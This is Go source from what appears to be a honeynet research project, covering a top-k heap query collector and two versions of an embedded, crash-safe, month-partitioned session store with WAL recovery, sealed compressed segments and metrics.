// top-k heap over the sort column — the scan streams by, each record is
// keyed once (fieldValue on the sort field), and only the best k
// survivors are retained. Memory is O(limit) regardless of how many
// records match. Without a limit the collector degrades to a full sort
// (it must see everything anyway), still streaming the scan.

// topRow is one retained record with its sort key and arrival index
// (the tie-break, which keeps the order deterministic and stable:
// equal keys come out in store order).
type topRow struct {
	r   *session.Record
	key Value
	idx int64
}

// topK retains the best k rows seen so far in a binary heap whose root
// is the worst retained row — the next to evict.
type topK struct {
	rows []topRow
	k    int // 0 = unbounded: collect everything, sort at the end
	desc bool
	f    Field
	n    int64
}

func newTopK(f Field, desc bool, k int) *topK {
	return &topK{f: f, desc: desc, k: k}
}

// worse reports whether a orders after b in the output (and so is the
// better eviction candidate).
func (t *topK) worse(a, b *topRow) bool {
	c := compareValues(a.key, b.key)
	if t.desc {
		c = -c
	}
	if c != 0 {
		return c > 0
	}
	return a.idx > b.idx
}

// add offers one record to the heap. The record must be arena- or
// caller-owned: it is retained beyond the scan step.
func (t *topK) add(r *session.Record) {
	row := topRow{r: r, key: fieldValue(t.f, r), idx: t.n}
	t.n++
	if t.k > 0 && len(t.rows) == t.k {
		// Full: replace the root only if the newcomer beats it.
		if !t.worse(&row, &t.rows[0]) {
			t.rows[0] = row
			t.siftDown(0)
		}
		return
	}
	t.rows = append(t.rows, row)
	if t.k > 0 {
		t.siftUp(len(t.rows) - 1)
	}
}

func (t *topK) siftUp(i int) {
	for i > 0 {
		p := (i - 1) / 2
		if !t.worse(&t.rows[i], &t.rows[p]) {
			return
		}
		t.rows[i], t.rows[p] = t.rows[p], t.rows[i]
		i = p
	}
}

func (t *topK) siftDown(i int) {
	for {
		l, r, max := 2*i+1, 2*i+2, i
		if l < len(t.rows) && t.worse(&t.rows[l], &t.rows[max]) {
			max = l
		}
		if r < len(t.rows) && t.worse(&t.rows[r], &t.rows[max]) {
			max = r
		}
		if max == i {
			return
		}
		t.rows[i], t.rows[max] = t.rows[max], t.rows[i]
		i = max
	}
}

// finish sorts the retained rows into output order and returns the
// records.
func (t *topK) finish() []*session.Record {
	rows := t.rows
	sort.Slice(rows, func(i, j int) bool { return t.worse(&rows[j], &rows[i]) })
	out := make([]*session.Record, len(rows))
	for i := range rows {
		out[i] = rows[i].r
	}
	return out
}

// collectTopK drains a record cursor through a top-k heap and closes
// it, returning the ordered survivors.
func collectTopK(cur recordCursor, f Field, desc bool, k int) ([]*session.Record, error) {
	t := newTopK(f, desc, k)
	for cur.Next() {
		t.add(cur.Record())
	}
	if err := cur.Err(); err != nil {
		cur.Close()
		return nil, err
	}
	if err := cur.Close(); err != nil {
		return nil, err
	}
	return t.finish(), nil
}

// sliceCursor adapts an ordered record slice to the recordCursor
// interface Result streams from.
type sliceCursor struct {
	rows []*session.Record
	cur  *session.Record
}

func (c *sliceCursor) Next() bool {
	if len(c.rows) == 0 {
		c.cur = nil
		return false
	}
	c.cur = c.rows[0]
	c.rows = c.rows[1:]
	return true
}

func (c *sliceCursor) Record() *session.Record { return c.cur }
func (c *sliceCursor) Err() error              { return nil }
func (c *sliceCursor) Close() error            { return nil }
