// Package store is the honeynet's embedded, time-partitioned session
// database: the subsystem that lets the same binaries run at the
// paper's production scale (635M sessions over 33 months), bounded by
// disk instead of memory.
//
// Writers append records to a crash-safe WAL (plain JSONL with the
// sessionlog torn-tail recovery contract) and periodically seal it into
// immutable per-month segment files — flate-compressed blocks with a
// block index, per-segment time bounds, kind/protocol counts, and a
// Bloom filter over client IPs — committed through an atomically
// renamed, fsynced manifest. On top sits a streaming query engine:
// Scan yields records month by month without materializing the
// dataset, Rollup answers the monthly aggregates behind the paper's
// longitudinal figures from sealed metadata alone, ScanIP prunes
// segments by Bloom filter for campaign lookups, and Load reconstructs
// the exact global append order in parallel for the byte-identical
// figure pipeline.
//
// Crash safety, by case:
//
//   - torn WAL append: the tail is truncated at the last valid line on
//     Open (sessionlog.RecoverTail); at most the unsynced tail is lost.
//   - crash mid-seal, before the manifest commit: the manifest never
//     referenced the partial segment; the WAL still holds every record
//     and the orphan file is overwritten by the retried seal.
//   - crash after the manifest commit, before the WAL reset: the WAL's
//     base sequence no longer matches the manifest, so the now-stale
//     WAL is discarded instead of replaying duplicates.
//
// A sealed segment is never lost or mutated.
package store

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/sessionlog"
)

// Options parameterizes a store.
type Options struct {
	// SealBytes auto-seals the WAL into segments once it holds this
	// many bytes. Zero means 16 MiB; negative disables auto-sealing
	// (Seal/Close still seal).
	SealBytes int64
	// BlockBytes is the target uncompressed block size inside sealed
	// segments — the unit of scan memory. Zero means 256 KiB.
	BlockBytes int
	// SyncEvery is the WAL fsync cadence. Zero means one second;
	// negative disables the periodic sync (Flush/Seal/Close still sync).
	SyncEvery time.Duration
	// ReadOnly opens the store for querying only: no WAL truncation or
	// recovery writes, Append fails. A torn WAL tail is skipped in
	// memory instead of repaired on disk.
	ReadOnly bool
}

func (o *Options) sealBytes() int64 {
	if o.SealBytes == 0 {
		return 16 << 20
	}
	return o.SealBytes
}

func (o *Options) blockBytes() int {
	if o.BlockBytes > 0 {
		return o.BlockBytes
	}
	return 256 << 10
}

func (o *Options) syncEvery() time.Duration {
	if o.SyncEvery == 0 {
		return time.Second
	}
	return o.SyncEvery
}

// Store is an append-only, month-partitioned session store rooted at a
// directory. All methods are safe for concurrent use; queries see a
// consistent snapshot and never block appends for long.
type Store struct {
	dir  string
	opts Options

	mu      sync.RWMutex
	man     *manifest         // copy-on-write: replaced wholesale by seals
	tail    []*session.Record // unsealed records; seq = man.NextSeq + index
	walF    *os.File          // nil when ReadOnly
	walW    *bufio.Writer
	walSize int64
	dirty   bool
	closed  bool

	stop, done chan struct{} // periodic WAL sync loop

	sealsTotal     atomic.Int64
	blocksRead     atomic.Int64
	bloomChecks    atomic.Int64
	bloomSkips     atomic.Int64
	recoveredBytes atomic.Int64
	staleWALDrops  atomic.Int64
	appended       atomic.Int64
}

// walHeader is the first line of the WAL: it binds the file to the
// manifest generation it extends. A WAL whose base disagrees with the
// manifest's NextSeq was already sealed and is discarded on Open.
type walHeader struct {
	Wal struct {
		Base uint64 `json:"base"`
	} `json:"_wal"`
}

// Open opens (creating if needed) the store at dir, recovering from
// any crash per the package contract.
func Open(dir string, opts Options) (*Store, error) {
	if !opts.ReadOnly {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return nil, err
		}
	}
	man, err := loadManifest(dir)
	if err != nil {
		return nil, err
	}
	s := &Store{dir: dir, opts: opts, man: man}
	walPath := filepath.Join(dir, walName)

	if opts.ReadOnly {
		// Tolerant read: parse what is valid, truncate nothing.
		tail, stale, _, err := readWAL(walPath, man.NextSeq, true)
		if err != nil {
			return nil, err
		}
		if stale {
			s.staleWALDrops.Add(1)
			tail = nil
		}
		s.tail = tail
		return s, nil
	}

	dropped, err := sessionlog.RecoverTail(walPath)
	if err != nil {
		return nil, fmt.Errorf("store: recover wal: %w", err)
	}
	s.recoveredBytes.Store(dropped)
	tail, stale, size, err := readWAL(walPath, man.NextSeq, false)
	if err != nil {
		return nil, err
	}
	if stale {
		// The previous process crashed between the manifest commit and
		// the WAL reset: every WAL record is already in a sealed
		// segment. Replaying it would duplicate data — drop it.
		s.staleWALDrops.Add(1)
		if err := os.Remove(walPath); err != nil && !os.IsNotExist(err) {
			return nil, err
		}
		tail, size = nil, 0
	}
	s.tail = tail
	f, err := os.OpenFile(walPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	s.walF = f
	s.walW = bufio.NewWriterSize(f, 256<<10)
	s.walSize = size
	if size == 0 {
		if err := s.writeWALHeaderLocked(man.NextSeq); err != nil {
			f.Close()
			return nil, err
		}
	}
	if opts.syncEvery() > 0 {
		s.stop = make(chan struct{})
		s.done = make(chan struct{})
		go s.syncLoop(opts.syncEvery())
	}
	return s, nil
}

// readWAL parses the WAL at path: header, then one record per line. It
// returns the records, whether the file is stale relative to base, and
// the byte size consumed. In tolerant mode a torn tail ends the parse
// silently instead of erroring (read-only opens of a live store).
func readWAL(path string, base uint64, tolerant bool) (recs []*session.Record, stale bool, size int64, err error) {
	f, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, false, 0, nil
		}
		return nil, false, 0, err
	}
	defer f.Close()
	br := bufio.NewReaderSize(f, 1<<20)
	first := true
	for {
		line, rerr := br.ReadBytes('\n')
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 {
			if first {
				first = false
				var h walHeader
				if uerr := json.Unmarshal(trimmed, &h); uerr != nil || !bytes.HasPrefix(trimmed, []byte(`{"_wal"`)) {
					return nil, true, 0, nil // headerless: not ours, or pre-seal leftover
				}
				if h.Wal.Base != base {
					return nil, true, 0, nil
				}
			} else {
				r := &session.Record{}
				if uerr := json.Unmarshal(trimmed, r); uerr != nil {
					if tolerant {
						return recs, false, size, nil
					}
					return nil, false, 0, fmt.Errorf("store: corrupt wal record %d: %w", len(recs), uerr)
				}
				recs = append(recs, r)
			}
		}
		size += int64(len(line))
		if rerr != nil {
			if rerr == io.EOF {
				return recs, false, size, nil
			}
			return nil, false, 0, rerr
		}
	}
}

// writeWALHeaderLocked writes and fsyncs the WAL binding line. Caller
// holds mu (or is still constructing the store).
func (s *Store) writeWALHeaderLocked(base uint64) error {
	var h walHeader
	h.Wal.Base = base
	line, err := json.Marshal(h)
	if err != nil {
		return err
	}
	line = append(line, '\n')
	if _, err := s.walW.Write(line); err != nil {
		return err
	}
	if err := s.walW.Flush(); err != nil {
		return err
	}
	if err := s.walF.Sync(); err != nil {
		return err
	}
	s.walSize += int64(len(line))
	return nil
}

// Append adds one record. The store retains r; callers must not mutate
// it afterwards. The record is durable after the next Flush, periodic
// sync, or seal.
func (s *Store) Append(r *session.Record) error {
	line, err := json.Marshal(r)
	if err != nil {
		return fmt.Errorf("store: marshal: %w", err)
	}
	line = append(line, '\n')
	s.mu.Lock()
	defer s.mu.Unlock()
	switch {
	case s.closed:
		return errors.New("store: closed")
	case s.opts.ReadOnly:
		return errors.New("store: read-only")
	}
	if _, err := s.walW.Write(line); err != nil {
		return fmt.Errorf("store: wal write: %w", err)
	}
	s.walSize += int64(len(line))
	s.dirty = true
	s.tail = append(s.tail, r)
	s.appended.Add(1)
	if sb := s.opts.sealBytes(); sb > 0 && s.walSize >= sb {
		if err := s.sealLocked(); err != nil {
			return fmt.Errorf("store: auto-seal: %w", err)
		}
	}
	return nil
}

// Sink adapts the store to honeypot.Config.Sink.
func (s *Store) Sink(r *session.Record) error { return s.Append(r) }

// Seal folds the WAL into immutable per-month segments and commits
// them through the manifest. A no-op on an empty WAL.
func (s *Store) Seal() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed || s.opts.ReadOnly {
		return errors.New("store: closed or read-only")
	}
	return s.sealLocked()
}

// sealLocked does the work of Seal. Caller holds mu.
func (s *Store) sealLocked() error {
	if err := s.flushLocked(); err != nil {
		return err
	}
	if len(s.tail) == 0 {
		return nil
	}
	// Partition the tail by month, preserving append order within each.
	byMonth := map[time.Time][]int{}
	var months []time.Time
	for i, r := range s.tail {
		m := r.Month()
		if _, ok := byMonth[m]; !ok {
			months = append(months, m)
		}
		byMonth[m] = append(byMonth[m], i)
	}
	sort.Slice(months, func(i, j int) bool { return months[i].Before(months[j]) })

	newMan := &manifest{
		Version:  manifestVersion,
		NextSeg:  s.man.NextSeg,
		NextSeq:  s.man.NextSeq + uint64(len(s.tail)),
		Segments: append([]*segmentMeta(nil), s.man.Segments...),
	}
	var files []string
	for _, m := range months {
		idxs := byMonth[m]
		recs := make([]*session.Record, len(idxs))
		seqs := make([]uint64, len(idxs))
		for j, i := range idxs {
			recs[j] = s.tail[i]
			seqs[j] = s.man.NextSeq + uint64(i)
		}
		file := segFileName(newMan.NextSeg)
		meta, err := writeSegment(s.dir, file, recs, seqs, s.opts.blockBytes())
		if err != nil {
			removeAll(s.dir, files, file)
			return err
		}
		newMan.NextSeg++
		newMan.Segments = append(newMan.Segments, meta)
		files = append(files, file)
	}
	if err := syncDir(s.dir); err != nil {
		removeAll(s.dir, files, "")
		return err
	}
	if err := newMan.save(s.dir); err != nil {
		removeAll(s.dir, files, "")
		return err
	}

	// The manifest now owns the records: reset the WAL under the new
	// base. A crash before this point replays the WAL; after the
	// manifest commit, a leftover WAL is detected as stale and dropped.
	if err := s.walF.Close(); err != nil {
		return err
	}
	f, err := os.OpenFile(filepath.Join(s.dir, walName), os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	s.walF = f
	s.walW.Reset(f)
	s.walSize = 0
	s.dirty = false
	s.man = newMan
	s.tail = nil // cursors holding the old tail keep their snapshot
	s.sealsTotal.Add(1)
	return s.writeWALHeaderLocked(newMan.NextSeq)
}

// removeAll deletes the named segment files plus one extra (a partial
// write), best-effort, after a failed seal.
func removeAll(dir string, files []string, extra string) {
	if extra != "" {
		files = append(files, extra)
	}
	for _, f := range files {
		os.Remove(filepath.Join(dir, f))
	}
}

// Flush pushes buffered WAL data to stable storage.
func (s *Store) Flush() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed || s.opts.ReadOnly {
		return nil
	}
	return s.flushLocked()
}

func (s *Store) flushLocked() error {
	if err := s.walW.Flush(); err != nil {
		return err
	}
	if err := s.walF.Sync(); err != nil {
		return err
	}
	s.dirty = false
	return nil
}

// Close seals any unsealed tail and releases the store. Further
// appends fail; open cursors keep working over their snapshots.
func (s *Store) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	var err error
	if !s.opts.ReadOnly {
		err = s.sealLocked()
		if cerr := s.walF.Close(); err == nil {
			err = cerr
		}
	}
	s.closed = true
	stop := s.stop
	s.mu.Unlock()
	if stop != nil {
		close(stop)
		<-s.done
	}
	return err
}

// syncLoop periodically fsyncs dirty WAL data, mirroring sessionlog:
// an idle-period crash loses at most SyncEvery worth of sessions.
func (s *Store) syncLoop(every time.Duration) {
	defer close(s.done)
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-s.stop:
			return
		case <-t.C:
			s.mu.Lock()
			if !s.closed && s.dirty {
				_ = s.flushLocked()
			}
			s.mu.Unlock()
		}
	}
}

// snapshot returns a consistent (manifest, tail) view for queries. The
// manifest is copy-on-write and the tail slice is capacity-clamped, so
// later appends and seals cannot disturb the holder.
func (s *Store) snapshot() (*manifest, []*session.Record) {
	s.mu.RLock()
	man, tail := s.man, s.tail[:len(s.tail):len(s.tail)]
	s.mu.RUnlock()
	return man, tail
}

// Len returns the total record count (sealed + unsealed).
func (s *Store) Len() int {
	man, tail := s.snapshot()
	n := len(tail)
	for _, seg := range man.Segments {
		n += seg.Records
	}
	return n
}

// Segments returns the number of sealed segment files.
func (s *Store) Segments() int {
	man, _ := s.snapshot()
	return len(man.Segments)
}

// CompressedBytes returns the total compressed size of sealed blocks.
func (s *Store) CompressedBytes() int64 {
	man, _ := s.snapshot()
	var n int64
	for _, seg := range man.Segments {
		n += seg.CompBytes
	}
	return n
}

// RecoveredBytes returns the torn-tail bytes truncated from the WAL
// when the store was opened.
func (s *Store) RecoveredBytes() int64 { return s.recoveredBytes.Load() }

// Register exposes the store's counters and gauges on reg:
//
//	honeynet_store_records
//	honeynet_store_segments
//	honeynet_store_compressed_bytes
//	honeynet_store_seals_total
//	honeynet_store_appended_total
//	honeynet_store_blocks_read_total
//	honeynet_store_bloom_checks_total
//	honeynet_store_bloom_skips_total
//	honeynet_store_recovered_bytes
//	honeynet_store_stale_wal_drops_total
func (s *Store) Register(reg *obs.Registry) {
	reg.GaugeFunc("honeynet_store_records",
		"Session records held by the store (sealed + unsealed).",
		func() float64 { return float64(s.Len()) })
	reg.GaugeFunc("honeynet_store_segments",
		"Sealed immutable segment files in the store.",
		func() float64 { return float64(s.Segments()) })
	reg.GaugeFunc("honeynet_store_compressed_bytes",
		"Compressed bytes across all sealed segment blocks.",
		func() float64 { return float64(s.CompressedBytes()) })
	reg.CounterFunc("honeynet_store_seals_total",
		"WAL-to-segment seal operations completed.", s.sealsTotal.Load)
	reg.CounterFunc("honeynet_store_appended_total",
		"Records appended to the store.", s.appended.Load)
	reg.CounterFunc("honeynet_store_blocks_read_total",
		"Compressed blocks read and verified by queries.", s.blocksRead.Load)
	reg.CounterFunc("honeynet_store_bloom_checks_total",
		"Segment Bloom-filter membership checks by IP-scoped scans.", s.bloomChecks.Load)
	reg.CounterFunc("honeynet_store_bloom_skips_total",
		"Segments skipped entirely because the Bloom filter excluded the IP.", s.bloomSkips.Load)
	reg.GaugeFunc("honeynet_store_recovered_bytes",
		"Torn-tail WAL bytes truncated away when the store was opened.",
		func() float64 { return float64(s.RecoveredBytes()) })
	reg.CounterFunc("honeynet_store_stale_wal_drops_total",
		"Stale WALs (already sealed before a crash) discarded on open.", s.staleWALDrops.Load)
}
