// Package store is the honeynet's embedded, time-partitioned session
// database: the subsystem that lets the same binaries run at the
// paper's production scale (635M sessions over 33 months), bounded by
// disk instead of memory.
//
// Writers append records to a crash-safe WAL (plain JSONL with the
// sessionlog torn-tail recovery contract). Appends are group-committed:
// records enqueue in memory and a latency-bounded flusher amortizes one
// WAL write over a whole batch (Options.MaxBatch/MaxDelay), fsynced on
// the SyncEvery cadence. Sealing folds the WAL into immutable per-month
// segment files — compressed blocks with a block index, per-segment
// time bounds, kind/protocol counts, and a Bloom filter over client
// IPs — committed through an atomically renamed, fsynced manifest.
// Auto-sealing runs in the background: the WAL rotates aside and a
// worker compresses blocks in parallel while appends continue into a
// fresh WAL. On top sits a streaming query engine: Scan yields records
// month by month without materializing the dataset, Rollup answers the
// monthly aggregates behind the paper's longitudinal figures from
// sealed metadata alone, ScanIP prunes segments by Bloom filter for
// campaign lookups, and Load reconstructs the exact global append order
// in parallel for the byte-identical figure pipeline.
//
// Crash safety, by case:
//
//   - torn WAL append: the tail is truncated at the last valid line on
//     Open (sessionlog.RecoverTail); at most the unsynced tail is lost.
//   - crash mid-seal, before the manifest commit: the manifest never
//     referenced the partial segment; the WAL still holds every record
//     and the orphan file is overwritten by the retried seal. For a
//     background seal the rotated-aside WAL (wal-sealing.jsonl, fsynced
//     at rotation) holds the records; Open finishes the seal from it.
//   - crash after the manifest commit, before the WAL reset: the WAL's
//     base sequence no longer matches the manifest, so the now-stale
//     WAL is discarded instead of replaying duplicates.
//
// A sealed segment is never lost or mutated.
package store

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/parallel"
	"honeynet/internal/session"
	"honeynet/internal/sessionlog"
)

// Options parameterizes a store. The zero value selects every default;
// Open validates and rejects out-of-range values rather than silently
// correcting them.
type Options struct {
	// SealBytes auto-seals the tail into segments once it holds this
	// many bytes. Zero means 16 MiB; negative disables auto-sealing
	// (Seal/Close still seal).
	SealBytes int64
	// BlockBytes is the target uncompressed block size inside sealed
	// segments — the unit of scan memory. Zero means 256 KiB; negative
	// is rejected.
	BlockBytes int
	// SyncEvery is the WAL fsync cadence. Zero means one second;
	// negative disables the periodic sync (Flush/Seal/Close still sync).
	SyncEvery time.Duration
	// MaxBatch caps how many appended records one group-commit WAL
	// write may carry. Zero means 512; negative is rejected.
	MaxBatch int
	// MaxDelay bounds how long an appended record may wait in the
	// group-commit batch before the flusher writes it to the WAL. Zero
	// means 2ms; negative is rejected.
	MaxDelay time.Duration
	// Codec names the block codec for newly sealed segments: CodecLZ
	// (the default) or CodecFlate (v1-compatible segments). Existing
	// segments are always read with the codec their manifest records,
	// whatever this is set to. Unknown names are rejected.
	Codec string
	// Format selects the layout of newly sealed segments: "" or "v2"
	// for the row layout (blocks of whole records, Codec applies), "v3"
	// for the columnar layout (per-field stripes, always LZ — v3 with
	// CodecFlate is rejected). Existing segments are always read with
	// the layout their manifest records; mixing formats in one store is
	// fully supported.
	Format string
	// SealWorkers caps how many goroutines compress blocks during a
	// seal. Zero means GOMAXPROCS; negative is rejected.
	SealWorkers int
	// ReadOnly opens the store for querying only: no WAL truncation or
	// recovery writes, Append fails. A torn WAL tail is skipped in
	// memory instead of repaired on disk.
	ReadOnly bool
}

// Validate rejects option values outside their documented range. A
// negative SealBytes or SyncEvery is a documented sentinel (disable),
// not an error.
func (o *Options) Validate() error {
	switch {
	case o.BlockBytes < 0:
		return fmt.Errorf("store: negative BlockBytes %d", o.BlockBytes)
	case o.MaxBatch < 0:
		return fmt.Errorf("store: negative MaxBatch %d", o.MaxBatch)
	case o.MaxDelay < 0:
		return fmt.Errorf("store: negative MaxDelay %v", o.MaxDelay)
	case o.SealWorkers < 0:
		return fmt.Errorf("store: negative SealWorkers %d", o.SealWorkers)
	case !validCodec(o.Codec):
		return fmt.Errorf("store: unknown codec %q (want %q or %q)", o.Codec, CodecLZ, CodecFlate)
	}
	switch o.Format {
	case "", FormatV2, FormatV3:
	default:
		return fmt.Errorf("store: unknown segment format %q (want \"v2\" or %q)", o.Format, FormatV3)
	}
	if o.Format == FormatV3 && o.Codec == CodecFlate {
		return fmt.Errorf("store: format v3 stripes are always LZ-compressed; Codec %q conflicts", o.Codec)
	}
	return nil
}

func (o *Options) sealBytes() int64 {
	if o.SealBytes == 0 {
		return 16 << 20
	}
	return o.SealBytes
}

func (o *Options) blockBytes() int {
	if o.BlockBytes > 0 {
		return o.BlockBytes
	}
	return 256 << 10
}

func (o *Options) syncEvery() time.Duration {
	if o.SyncEvery == 0 {
		return time.Second
	}
	return o.SyncEvery
}

func (o *Options) maxBatch() int {
	if o.MaxBatch == 0 {
		return 512
	}
	return o.MaxBatch
}

func (o *Options) maxDelay() time.Duration {
	if o.MaxDelay == 0 {
		return 2 * time.Millisecond
	}
	return o.MaxDelay
}

func (o *Options) codec() string {
	if o.Codec == "" {
		return CodecLZ
	}
	return o.Codec
}

// Store is an append-only, month-partitioned session store rooted at a
// directory. All methods are safe for concurrent use; queries see a
// consistent snapshot and never block appends for long.
//
// Lock order: walMu (WAL file I/O and rotation) is always acquired
// before mu (in-memory state). The group-commit flusher extracts its
// batch and the sealer rotates the WAL under both.
type Store struct {
	dir  string
	opts Options

	walMu sync.Mutex // serializes WAL writes, fsyncs, and rotation

	mu        sync.RWMutex
	man       *manifest         // copy-on-write: replaced wholesale by seals
	tail      []*session.Record // unsealed records; seq = man.NextSeq + index
	tailLines [][]byte          // canonical JSON per tail record, newline-free
	lineArena []byte            // backing storage tailLines entries slice into
	tailBytes int64             // WAL bytes (lines + newlines) of the unfrozen tail
	frozen    int               // tail[:frozen] belongs to the in-flight background seal
	pend      int               // tail suffix not yet written to the WAL
	pendRuns  [][]byte          // pending WAL bytes as contiguous arena runs
	pendRun   []byte            // open run in the current arena chunk
	sealing   bool              // a background seal is in flight
	sealCond  *sync.Cond        // on mu; broadcast when sealing flips false
	walErr    error             // sticky: a failed WAL batch write
	sealErr   error             // sticky: a failed background seal (a later Seal may clear it)
	walF      *os.File          // active WAL; nil when ReadOnly
	walW      *bufio.Writer
	walSize   int64
	dirty     bool
	closed    bool

	kick       chan struct{} // wakes the group-commit flusher
	stop, done chan struct{} // periodic WAL sync loop
	flushDone  chan struct{} // group-commit flusher exit
	watch      chan struct{} // append signal for tailers (see Watch)

	// Seal scratch, reused across seals: at most one seal runs at a
	// time (the sealing flag serializes background seals; Seal/Close
	// run inline only after waiting it out under mu), so large buffers
	// and codec tables are allocated once instead of zeroed fresh per
	// seal.
	sealFrames []byte
	sealComps  [][]byte
	sealCodecs []blockCodec
	sealCol    *colWriter // v3 columnar block builder

	sealsTotal     atomic.Int64
	sealBackground atomic.Int64
	sealBlocks     atomic.Int64
	batchFlushes   atomic.Int64
	batchRecords   atomic.Int64
	batchBytes     atomic.Int64
	blocksRead     atomic.Int64
	bloomChecks    atomic.Int64
	bloomSkips     atomic.Int64
	recoveredBytes atomic.Int64
	staleWALDrops  atomic.Int64
	appended       atomic.Int64

	queriesTotal       atomic.Int64
	queryMetaOnly      atomic.Int64
	querySegsPruned    atomic.Int64
	queryBlocksSkipped atomic.Int64
}

// walHeader is the first line of the WAL: it binds the file to the
// manifest generation it extends. A WAL whose base disagrees with the
// manifest's NextSeq was already sealed and is discarded on Open.
type walHeader struct {
	Wal struct {
		Base uint64 `json:"base"`
	} `json:"_wal"`
}

// Open opens (creating if needed) the store at dir, recovering from
// any crash per the package contract.
func Open(dir string, opts Options) (*Store, error) {
	if err := opts.Validate(); err != nil {
		return nil, err
	}
	if !opts.ReadOnly {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return nil, err
		}
	}
	man, err := loadManifest(dir)
	if err != nil {
		return nil, err
	}
	s := &Store{dir: dir, opts: opts, man: man}
	s.sealCond = sync.NewCond(&s.mu)
	s.watch = make(chan struct{}, 1)
	walPath := filepath.Join(dir, walName)
	frozenPath := filepath.Join(dir, walSealingName)

	if opts.ReadOnly {
		// Tolerant reads: parse what is valid, truncate nothing. A
		// non-stale rotated-aside WAL is the frozen prefix of the tail.
		base := man.NextSeq
		frozenRecs, _, stale, _, err := readWAL(frozenPath, base, true)
		if err != nil {
			return nil, err
		}
		if stale && exists(frozenPath) {
			s.staleWALDrops.Add(1)
			frozenRecs = nil
		}
		base += uint64(len(frozenRecs))
		tail, _, stale, _, err := readWAL(walPath, base, true)
		if err != nil {
			return nil, err
		}
		if stale && exists(walPath) {
			s.staleWALDrops.Add(1)
			tail = nil
		}
		s.tail = append(frozenRecs, tail...)
		return s, nil
	}

	// A rotated-aside WAL is a background seal the previous process
	// did not finish (or had already committed). Settle it first.
	if exists(frozenPath) {
		if err := s.recoverFrozenWAL(frozenPath); err != nil {
			return nil, err
		}
	}

	dropped, err := sessionlog.RecoverTail(walPath)
	if err != nil {
		return nil, fmt.Errorf("store: recover wal: %w", err)
	}
	s.recoveredBytes.Store(dropped)
	tail, lines, stale, size, err := readWAL(walPath, s.man.NextSeq, false)
	if err != nil {
		return nil, err
	}
	if stale {
		// The previous process crashed between the manifest commit and
		// the WAL reset: every WAL record is already in a sealed
		// segment. Replaying it would duplicate data — drop it.
		s.staleWALDrops.Add(1)
		if err := os.Remove(walPath); err != nil && !os.IsNotExist(err) {
			return nil, err
		}
		tail, lines, size = nil, nil, 0
	}
	s.tail = tail
	s.tailLines = lines
	for _, l := range lines {
		s.tailBytes += int64(len(l)) + 1
	}
	f, err := os.OpenFile(walPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	s.walF = f
	s.walW = bufio.NewWriterSize(f, 256<<10)
	s.walSize = size
	if size == 0 {
		if err := s.writeWALHeaderLocked(s.man.NextSeq); err != nil {
			f.Close()
			return nil, err
		}
	}
	s.kick = make(chan struct{}, 1)
	s.flushDone = make(chan struct{})
	s.stop = make(chan struct{})
	go s.flushLoop()
	if opts.syncEvery() > 0 {
		s.done = make(chan struct{})
		go s.syncLoop(opts.syncEvery())
	}
	return s, nil
}

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

// recoverFrozenWAL settles a wal-sealing.jsonl left by a crashed
// background seal: if its base matches the manifest the seal never
// committed — finish it here (write the segments, commit the manifest);
// if the base is behind, the seal committed and the file is stale.
// Either way the file is gone when this returns.
func (s *Store) recoverFrozenWAL(path string) error {
	if _, err := sessionlog.RecoverTail(path); err != nil {
		return fmt.Errorf("store: recover frozen wal: %w", err)
	}
	recs, lines, stale, _, err := readWAL(path, s.man.NextSeq, false)
	if err != nil {
		return err
	}
	if stale {
		s.staleWALDrops.Add(1)
	} else if len(recs) > 0 {
		newMan, err := s.buildSegments(s.man, recs, lines, s.man.NextSeq)
		if err != nil {
			return fmt.Errorf("store: finish interrupted seal: %w", err)
		}
		s.man = newMan
		s.sealsTotal.Add(1)
	}
	if err := os.Remove(path); err != nil && !os.IsNotExist(err) {
		return err
	}
	return syncDir(s.dir)
}

// readWAL parses the WAL at path: header, then one record per line. It
// returns the records with their canonical line bytes, whether the file
// is stale relative to base, and the byte size consumed. In tolerant
// mode a torn tail ends the parse silently instead of erroring
// (read-only opens of a live store). A missing file reads as empty and
// non-stale.
func readWAL(path string, base uint64, tolerant bool) (recs []*session.Record, lines [][]byte, stale bool, size int64, err error) {
	f, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, nil, false, 0, nil
		}
		return nil, nil, false, 0, err
	}
	defer f.Close()
	br := bufio.NewReaderSize(f, 1<<20)
	first := true
	var dec session.JSONDecoder
	for {
		line, rerr := br.ReadBytes('\n')
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 {
			if first {
				first = false
				var h walHeader
				if uerr := json.Unmarshal(trimmed, &h); uerr != nil || !bytes.HasPrefix(trimmed, []byte(`{"_wal"`)) {
					return nil, nil, true, 0, nil // headerless: not ours, or pre-seal leftover
				}
				if h.Wal.Base != base {
					return nil, nil, true, 0, nil
				}
			} else {
				r := &session.Record{}
				if uerr := dec.Decode(trimmed, r); uerr != nil {
					if tolerant {
						return recs, lines, false, size, nil
					}
					return nil, nil, false, 0, fmt.Errorf("store: corrupt wal record %d: %w", len(recs), uerr)
				}
				recs = append(recs, r)
				lines = append(lines, trimmed)
			}
		}
		size += int64(len(line))
		if rerr != nil {
			if rerr == io.EOF {
				return recs, lines, false, size, nil
			}
			return nil, nil, false, 0, rerr
		}
	}
}

// writeWALHeaderLocked writes and fsyncs the WAL binding line. Caller
// holds walMu and mu (or is still constructing the store).
